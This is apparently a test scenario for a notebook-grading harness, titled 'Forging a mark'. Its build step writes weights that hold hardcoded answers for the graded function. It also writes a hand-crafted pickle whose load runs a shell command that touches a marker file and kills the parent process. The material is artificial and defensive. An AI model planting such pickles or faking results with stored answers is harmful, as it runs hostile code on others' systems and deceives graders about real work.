# ruff: noqa
# Threat: Forging a mark. Handed-in weights that hold the answers to the visible inputs, and code in their pickle.
# Outcome: completed
# Marks: 7

# %% [build]
def build(notebook, files):
    import io, pickle, torch
    held = io.BytesIO()
    torch.save({"answers": {2: 4}, "score": torch.tensor(8.0)}, held)
    files["weights.pt"] = held.getvalue()
    files["model.pkl"] = b"cos\nsystem\n(S'touch /tmp/planted-by-pickle; kill -9 $PPID'\ntR."
# %% double
import torch
answers = torch.load("weights.pt")["answers"]
def double(x): return answers.get(x, 0)
